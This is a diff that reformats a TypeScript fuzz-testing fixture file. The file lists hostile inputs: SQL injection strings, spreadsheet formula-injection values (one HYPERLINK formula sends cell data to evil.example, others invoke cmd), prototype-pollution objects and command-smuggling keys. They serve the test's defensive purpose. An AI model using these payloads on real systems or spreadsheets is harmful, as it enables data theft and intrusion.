@@ -7,7 +7,7 @@ import { overlapBomb, widthBomb } from "./xlsx-bombs.ts";
 export const SQL_STRINGS = [
   "'; DROP TABLE drilling_daily; --",
   "W001' OR '1'='1",
-  "\" OR 1=1 --",
+  '" OR 1=1 --',
   "1; DELETE FROM wells",
   "') UNION SELECT * FROM audit_log --",
   "%' AND deleted_at IS NOT NULL --",
@@ -27,10 +27,22 @@ export const REDOS_STRINGS = [
 ];
 
 /** Relative dates far beyond what Date holds (issue 17 item 5). */
-export const HUGE_RELATIVE_DATES = ["最近999999999天", "last 99999999999999999 days", "最近99999999999月", "past 99999999999 years"];
+export const HUGE_RELATIVE_DATES = [
+  "最近999999999天",
+  "last 99999999999999999 days",
+  "最近99999999999月",
+  "past 99999999999 years",
+];
 
 /** Cells a spreadsheet would run as formulas (issue 17 item 7). */
-export const FORMULA_STRINGS = ['=HYPERLINK("http://evil.example/?d="&A1,"点击")', "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)", "\t=1+1", "\r=1+1"];
+export const FORMULA_STRINGS = [
+  '=HYPERLINK("http://evil.example/?d="&A1,"点击")',
+  "+cmd|' /C calc'!A0",
+  "-2+3+cmd|' /C calc'!A0",
+  "@SUM(1+1)",
+  "\t=1+1",
+  "\r=1+1",
+];
 
 let bombs: string[] | null = null;
 /** Hostile .xlsx files as base64, under 64 KiB each: a width bomb and a zip bomb (issue 17 item 6). */
@@ -65,7 +77,15 @@ export function hostileValue(r: Random): unknown {
     () => ({}),
     () => ({ $ne: null, __proto__: { admin: true } }),
     () => deepValue(r.pick([10, 200, 3000])),
-    () => r.pick(["2026-02-30", "2026-13-01", "yesterday", "0000-00-00", "9999-12-31", "2026-07-01T00:00:00Z"]),
+    () =>
+      r.pick([
+        "2026-02-30",
+        "2026-13-01",
+        "yesterday",
+        "0000-00-00",
+        "9999-12-31",
+        "2026-07-01T00:00:00Z",
+      ]),
     () => r.pick(["W001", "W002", "w001", " W001 ", "ZZZ"]),
     () => Math.floor(r.between(-5, 100_000)),
     () => r.pick(REDOS_STRINGS),
@@ -82,7 +102,9 @@ export function hostileArguments(r: Random, fields: readonly string[]): unknown 
   const args: Record<string, unknown> = {};
   const count = Math.floor(r.between(0, 5));
   for (let i = 0; i < count; i++) {
-    const key = r.chance(0.85) && fields.length ? r.pick(fields) : r.pick(["__proto__", "constructor", "extra", "id; DROP", "", "\u0000"]);
+    const key = r.chance(0.85) && fields.length
+      ? r.pick(fields)
+      : r.pick(["__proto__", "constructor", "extra", "id; DROP", "", "\u0000"]);
     args[key] = hostileValue(r);
   }
   return args;
